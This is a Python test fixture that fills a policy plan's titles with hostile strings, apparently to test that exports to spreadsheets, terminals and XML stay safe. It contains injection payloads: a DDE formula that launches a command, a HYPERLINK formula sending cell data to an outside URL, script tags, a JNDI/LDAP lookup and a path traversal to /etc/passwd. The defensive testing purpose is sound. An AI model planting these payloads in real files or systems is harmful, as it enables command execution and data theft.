"""A plan whose every text is an attack on a spreadsheet, a terminal or an XML reader."""

from __future__ import annotations

from dataclasses import replace

from plans.from_gold import plan_from_gold
from policygraph.graph.store import Store
from policygraph.values import Plan

TEXTS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"点此")',
    "+86 10 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
    "_x003D_1+1_x000D_",
    "<script>alert(1)</script>]]>&amp;<w:t>",
    "红\x00色\x1b[31m\x07\u200b零\u202e宽\ufeff",
    "长" * 100_000,
    "{{ 7*7 }} ${jndi:ldap://x} ../../etc/passwd",
)


def hostile_plan() -> Plan:
    """The plan of Yuzhong with these texts for its first titles, and one for the title of the plan."""
    plan = plan_from_gold("yuzhong")
    bad = [m._replace(title=text, text=text) for m, text in zip(plan.measures, TEXTS, strict=False)]
    front = replace(plan.front, title="=2+5|'/[方案]:*?\\", document_number="恶〔2025〕1号")
    return replace(plan, measures=(*bad, *plan.measures[len(bad) :]), front=front)


def hostile_store() -> Store:
    """A graph of that plan alone."""
    return Store.in_memory([hostile_plan()])
